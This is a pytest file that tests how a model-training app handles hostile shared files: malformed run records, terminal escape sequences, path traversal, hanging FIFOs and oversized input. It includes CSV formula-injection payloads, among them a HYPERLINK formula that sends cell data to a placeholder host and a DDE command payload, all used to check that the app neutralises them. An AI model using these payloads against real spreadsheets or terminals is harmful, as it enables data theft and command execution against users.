"""Files people share never crash the app, hang it, or reach the terminal raw (issue 11).

One test per class, through the real parsers and writers: run records of any shape, text
with markup and control characters, TOML limits, non-finite numbers, divergence, CSV formula
injection, and saying when nothing was saved.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import math
import os
from pathlib import Path

import numpy as np
import pytest
from helpers import tiny
from helpers.inside import IMAGES_KEY, diagnosis, write_images_file
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trainer import paths
from trainer.engine.reporter import RunReporter
from trainer.events import (
    EpochEnd,
    Mistake,
    Notice,
    RunDiverged,
    RunFinished,
    RunRequest,
    RunStarted,
)
from trainer.lessons.preset import Claim, Preset, Variant
from trainer.lessons.presets import MAX_LESSON_BYTES, load_preset_file
from trainer.lessons.stats import lesson_stats
from trainer.lessons.verdict import make_verdict
from trainer.store.apply import apply_event
from trainer.store.csvfile import csv_cell
from trainer.store.export import record_row
from trainer.store.parse import RecordError, parse_record
from trainer.store.record import RunRecord, RunStatus, diagnosis_json
from trainer.store.runstore import RunStore, StoreError
from trainer.text import clean
from tui.state.gallery import mistakes

CONTROL = "\x1b]2;pwned\x07\x1b[2J\x1b[5mblink\x00\x7f\x9b"


def good_doc(run_id: str = "good") -> dict:
    return {"schema": 1, "run_id": run_id, "status": "finished", "preset": "p", "variant": "v",
            "repeat": 0, "group": "g", "config": {"lr": 0.001, "epochs": 1},
            "history": [{"epoch": 1, "train_loss": 1.0, "train_acc": 0.5, "val_loss": 1.0,
                         "val_acc": 0.5, "lr": 0.001, "seconds": 1.0, "is_best": True,
                         "lr_dropped": False}],
            "summary": {"test_acc": 0.5, "best_epoch": 1}, "error": None, "env": {}}


# -- 1. run records of any shape ------------------------------------------------------------------

BAD_FIELDS = [
    ("summary", "oops"), ("error", "oops"), ("history", [1]), ("env", "oops"), ("run_id", 5),
    ("repeat", "two"), ("status", ["x"]), ("config", {"lr": "fast"}), ("run_id", "a\x00b"),
    ("run_id", "../../etc/passwd"), ("history", [{"epoch": 0}]), ("schema", 99),
    ("summary", {"test_acc": 5.0}), ("summary", {"best_val_acc": -0.1}),
    ("history", [{**good_doc()["history"][0], "val_acc": 1.5}]),
]


@pytest.mark.parametrize(("field", "value"), BAD_FIELDS)
def test_a_bad_field_is_named_and_the_others_load(tmp_path, field, value):
    (tmp_path / "good.json").write_text(json.dumps(good_doc()))
    (tmp_path / "bad.json").write_text(json.dumps({**good_doc("bad"), field: value}))
    records, warnings = RunStore(tmp_path).load()
    assert [r.run_id for r in records] == ["good"]
    (warning,) = warnings
    assert "bad.json" in warning and field in warning


def test_a_record_under_another_files_name_is_skipped_and_its_original_kept(tmp_path):
    """A renamed or copied record would be labelled, saved and deleted through the file its
    run id names: the copy is skipped with the reason, the original loads and stays intact."""
    original = json.dumps(good_doc())
    (tmp_path / "good.json").write_text(original)
    (tmp_path / "good (copy).json").write_text(json.dumps({**good_doc(), "variant": "forged"}))
    records, warnings = RunStore(tmp_path).load()
    assert [(r.run_id, r.variant) for r in records] == [("good", "v")]
    (warning,) = warnings
    assert "good (copy).json" in warning and "'run_id'" in warning and "good.json" in warning
    assert (tmp_path / "good.json").read_text() == original


def test_deep_nesting_fifos_and_devices_are_skipped_without_blocking(tmp_path):
    (tmp_path / "good.json").write_text(json.dumps(good_doc()))
    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    os.mkfifo(tmp_path / "x.json")  # an open without O_NONBLOCK would wait forever
    (tmp_path / "z.json").symlink_to("/dev/zero")  # a read without a bound never ends
    (tmp_path / "huge.json").write_bytes(b" " * (17 * 1024 * 1024))
    records, warnings = RunStore(tmp_path).load()
    assert [r.run_id for r in records] == ["good"]
    text = "\n".join(warnings)
    for name, why in (("deep.json", "nested too deeply"), ("x.json", "not a regular file"),
                      ("z.json", "not a regular file"), ("huge.json", "larger than")):
        assert name in text and why in text, (name, text)


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
                    lambda inner: st.lists(inner, max_size=4)
                    | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=12)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(field=st.sampled_from(sorted(good_doc())), value=JSON)
def test_any_json_value_in_any_field_is_a_record_or_a_named_reason(field, value):
    try:
        rec = parse_record({**good_doc(), field: value})
    except RecordError as err:
        assert err.field.split(".")[0].split("[")[0] == field or not err.field
        return
    assert isinstance(rec, RunRecord)
    json.dumps(rec.to_json())  # whatever loads can be saved again
    record_row(rec)  # … and exported


EPOCH_FIELDS = sorted(good_doc()["history"][0])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(field=st.sampled_from(EPOCH_FIELDS), value=JSON)
def test_any_value_in_an_epoch_row_is_checked_like_the_rest(field, value):
    """Epoch rows have a fast path (a store holds tens of thousands): it must accept exactly
    what the checked path accepts — a bool is no number, an epoch is a whole number ≥ 1."""
    row = {**good_doc()["history"][0], field: value}
    try:
        rec = parse_record({**good_doc(), "history": [row]})
    except RecordError as err:
        assert err.field == f"history[0].{field}"
        return
    (kept,) = rec.history
    got = getattr(kept, field)
    if field in ("is_best", "lr_dropped"):
        assert got is (value or False)
    elif field == "epoch":
        assert got == value and got >= 1
    else:
        assert (isinstance(value, int | float) and not isinstance(value, bool)) or value is None
        assert type(got) is float


@settings(max_examples=200, deadline=None)
@given(doc=JSON)
def test_any_json_document_is_a_record_or_a_reason(doc):
    with contextlib.suppress(RecordError):  # a reason is fine; any other exception fails
        parse_record(doc)


def test_record_text_is_made_safe(tmp_path):
    doc = {**good_doc(), "variant": f"BN{CONTROL}", "preset": "[bold red]x[/]",
           "error": {"kind": "error", "message": f"boom{CONTROL}", "traceback": ""}}
    rec = parse_record(doc)
    for text in (rec.variant, rec.error_line):
        assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in text), repr(text)
    assert "␛" in rec.variant and rec.preset == "[bold red]x[/]"  # markup stays text


# -- 2. markup and control characters -------------------------------------------------------------

def test_clean_shows_control_characters_and_keeps_text():
    assert clean("a\x1b[2Jb\x07c\x00") == "a␛[2Jb␇c␀"
    assert clean("tab\tand\nnewline") == "tab\tand\nnewline"
    assert clean("one\ntwo", single_line=True) == "one two"
    assert clean("C1 \x9b here") == "C1 � here"
    # Bidi overrides and isolates would show a name reversed where the terminal does bidi;
    # right-to-left text itself and the zero-width marks stay.
    assert clean("BN \u202eon\u202c \u2066x\u2069") == "BN �on� �x�"
    assert clean("שלום \u200f ok") == "שלום \u200f ok"


LESSON = """title = "T{title}"
summary = "s"
lesson = "[link=http://x]click[/link] {ctl}"
expect = "e"
try_next = ["[/]"]
[[variants]]
label = "BN off{ctl}"
batch_norm = false
[[variants]]
label = "[bold red]BN on"
batch_norm = true
[[claims]]
variant = "[bold red]BN on"
metric = "test_acc"
expect = "higher"
"""


def toml_escape(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if ord(c) < 32 or ord(c) == 0x7F else c for c in text)


def test_lesson_text_keeps_markup_literally_and_shows_control_characters(tmp_path):
    path = tmp_path / "hostile.toml"
    ctl = toml_escape("\x1b]2;pwned\x07\x1b[2J")
    path.write_text(LESSON.format(title="[/]", ctl=ctl))
    preset = load_preset_file(path)
    assert isinstance(preset, Preset), preset
    assert preset.title == "T[/]" and preset.labels == ["BN off␛]2;pwned␇␛[2J", "[bold red]BN on"]
    assert preset.lesson.startswith("[link=http://x]click[/link] ␛") and preset.try_next == ["[/]"]
    assert "\x1b" not in preset.lesson + "".join(preset.labels)


# -- 3. TOML limits -------------------------------------------------------------------------------

def test_deep_nesting_and_size_are_bad_file_messages(tmp_path):
    deep = tmp_path / "deep.toml"
    deep.write_text("order = " + "[" * 5000 + "]" * 5000 + "\n")
    problem = load_preset_file(deep)
    assert not isinstance(problem, Preset) and "nested too deeply" in str(problem)
    big = tmp_path / "big.toml"
    big.write_text(LESSON.format(title="", ctl="") + "# " + "x" * MAX_LESSON_BYTES + "\n")
    problem = load_preset_file(big)
    assert not isinstance(problem, Preset) and "larger than" in str(problem)
    assert "big.toml" in str(problem)
    os.mkfifo(tmp_path / "fifo.toml")
    assert "not a regular file" in str(load_preset_file(tmp_path / "fifo.toml"))


# -- 4. numbers in lesson files -------------------------------------------------------------------

@pytest.mark.parametrize(("line", "key"), [("effect = [nan, inf]", "effect"),
                                           ("effect = [0.01, inf]", "effect"),
                                           ("tolerance = nan", "tolerance")])
def test_non_finite_numbers_are_refused_with_the_key(tmp_path, line, key):
    text = LESSON.format(title="", ctl="").replace('expect = "higher"\n',
                                                   f'expect = "similar"\n{line}\n')
    if key == "effect":
        text = text.replace('expect = "similar"', 'expect = "higher"')
    path = tmp_path / "nan.toml"
    path.write_text(text)
    problem = load_preset_file(path)
    assert not isinstance(problem, Preset)
    assert problem.key == key and "finite" in problem.message


# -- 5. divergence is a result --------------------------------------------------------------------

def started(run_id: str, variant: str, repeat: int, lr: float = 0.01) -> RunStarted:
    return RunStarted(run_id, tiny(lr=lr).to_dict(), "bn", variant, repeat, "g", "cpu", "cpu",
                      "2", 10, 2, 100, 20, 20)


def run(run_id: str, variant: str, repeat: int, acc: float | None) -> RunRecord:
    rec = apply_event(None, started(run_id, variant, repeat))
    if acc is None:  # diverged in epoch 2, after one good epoch
        rec = apply_event(rec, EpochEnd(run_id, 1, 2.0, 0.2, 2.1, 0.2, 0.01, 1.0, True, False))
        return apply_event(rec, RunDiverged(run_id, epoch=2, epochs_done=1, loss=math.nan))
    rec = apply_event(rec, EpochEnd(run_id, 1, 1.0, 0.5, 1.0, acc, 0.01, 1.0, True, False))
    return apply_event(rec, RunFinished(run_id, 1.0, acc, 1, acc, 1.0, 1, 1.0, 100.0))


def test_a_diverged_run_is_recorded_counted_apart_and_named_in_the_verdict():
    preset = Preset(key="bn", title="T", summary="s", lesson="l", expect="e", base={},
                    variants=[Variant("BN off", {}), Variant("BN on", {})], repeats=3,
                    claims=[Claim("BN on", "test_acc", "higher")], try_next=[],
                    source=Path("bn.toml"))
    records = [run("o0", "BN off", 0, None), run("o1", "BN off", 1, None),
               run("o2", "BN off", 2, 0.40), run("n0", "BN on", 0, 0.6),
               run("n1", "BN on", 1, 0.62), run("n2", "BN on", 2, 0.61)]
    diverged = records[0]
    assert diverged.status is RunStatus.DIVERGED and diverged.epochs_done == 1
    assert diverged.error_line == "diverged in epoch 2: the loss became nan (lr 0.01)"
    assert record_row(diverged)["status"] == "diverged"
    assert diverged.best_epoch == 1
    stats = lesson_stats(preset, records)
    off = stats.variant("BN off")
    assert off is not None and off.diverged == 2 and off.finished == 1
    assert off.metrics["test_acc"].mean == pytest.approx(0.40)  # only the finished run
    text = " ".join(make_verdict(preset, records).sentences)
    assert "2 of 3 BN off runs diverged at lr 0.01" in text


def test_epoch_zero_is_never_a_best_epoch():
    rec = parse_record({**good_doc(), "summary": {"best_epoch": 0, "test_acc": 0.1},
                        "history": []})
    assert rec.best_epoch is None and record_row(rec)["best_epoch"] == ""


# -- 6. CSV formula injection ---------------------------------------------------------------------

@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(text):
    assert csv_cell(text) == "'" + text


def test_real_numbers_stay_numeric():
    assert csv_cell(-0.5) == "-0.5" and csv_cell(-3) == "-3" and csv_cell(1e-5) == "1e-05"
    row = record_row(parse_record({**good_doc(), "variant": "=1+1"}))
    assert row["variant"] == "'=1+1" and row["test_acc"] == "0.5"


# -- 7. say when nothing was saved ----------------------------------------------------------------

class FullDisk:
    def __init__(self) -> None:
        self.fail = True

    def save(self, record: RunRecord) -> None:
        if self.fail:
            raise StoreError("could not save run r to /x/r.json: No space left on device")


def test_an_unsaved_run_says_so_until_a_later_save_works():
    store, sent = FullDisk(), []
    req = RunRequest(config=tiny().to_dict(), run_id="r")
    report = RunReporter(store, sent.append, req)
    record: RunRecord | None = None
    report.emit(started("r", "v", 0))
    for event in sent:
        record = apply_event(record, event)
    assert record is not None and "No space left" in record.save_error
    assert any(isinstance(e, Notice) and e.kind == "unsaved" for e in sent)
    store.fail = False
    sent.clear()
    report.emit(EpochEnd("r", 1, 1.0, 0.5, 1.0, 0.5, 0.01, 1.0, True, False))
    for event in sent:
        record = apply_event(record, event)
    assert record.save_error == ""  # the file holds every epoch again


# -- 8. the test-images file and the filters of the Inside view's gallery -------------------------

def _gallery_why(d=None) -> str:
    rec = RunRecord(run_id="r", config={}, status=RunStatus.FINISHED,
                    diagnosis=d or diagnosis(gallery=True))
    shown = mistakes(rec, 8)
    assert shown.shown == ()
    return shown.why


@pytest.mark.parametrize(("make", "why"), [
    (lambda p: np.save(p, np.zeros((600, 32, 32, 3), np.float32)), "float32 values, not 8-bit"),
    (lambda p: np.save(p, np.zeros((600, 3, 32, 32), np.uint8)), "shape (600, 3, 32, 32)"),
    (lambda p: np.save(p, np.asfortranarray(np.zeros((600, 32, 32, 3), np.uint8))),
     "Fortran order"),
    (lambda p: np.save(p, np.array([{"x": 1}] * 3, dtype=object)), "object values"),
    (lambda p: p.write_bytes(b"\x93NUMPY\x01\x00{'descr': '|u1'"), "not a NumPy image file"),
    (lambda p: p.write_bytes(b"PNG or whatever"), "not a NumPy image file"),
    (lambda p: p.write_bytes(b""), "not a NumPy image file"),
    (lambda p: os.mkfifo(p), "is not a regular file"),  # an open that waited would hang the UI
    (lambda p: p.symlink_to("/dev/zero"), "is not a regular file"),  # a read that never ends
    (lambda p: p.mkdir(), "is not a regular file"),
])
def test_a_bad_test_images_file_is_named_never_read_whole(make, why):
    path = paths.test_images_file(IMAGES_KEY)
    assert path is not None
    path.parent.mkdir(parents=True, exist_ok=True)
    make(path)
    text = _gallery_why()
    assert text.startswith("images not available on this machine: ") and why in text, text
    assert str(path) in text


def test_a_truncated_file_and_indices_beyond_the_set_are_named():
    write_images_file(600)
    path = paths.test_images_file(IMAGES_KEY)
    assert path is not None
    d = diagnosis(gallery=True)
    beyond = dataclasses.replace(d, mistakes=(Mistake(600, 0, 1, 0.9), *d.mistakes))
    assert "test index 600 is out of range" in _gallery_why(beyond)
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])
    assert "is truncated (" in _gallery_why()


FILTER_DOC = {"shape": [2, 3, 3, 3], "values": [0.1] * 54}


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(part=st.sampled_from(["shape", "values", "filters", "test_images"]), value=JSON)
def test_any_value_in_the_gallery_fields_is_a_record_or_a_named_reason(part, value):
    d = diagnosis_json(diagnosis())
    if part in ("shape", "values"):
        d["filters"] = {**FILTER_DOC, part: value}
    else:
        d[part] = value
    try:
        rec = parse_record({**good_doc(), "test_diagnosis": d})
    except RecordError as err:
        where = "test_images" if part == "test_images" else "filters"
        assert err.field.startswith(f"test_diagnosis.{where}")
        return
    got = rec.diagnosis
    assert got is not None
    if got.filters is not None:
        n, c, kh, kw = got.filters.shape
        assert n <= 64 and c in (1, 3) and kh <= 9 and kw <= 9
        assert len(got.filters.values) == n * c * kh * kw
        assert all(math.isfinite(v) for v in got.filters.values)
    assert got.test_images == "" or "/" not in got.test_images
    json.dumps(rec.to_json())
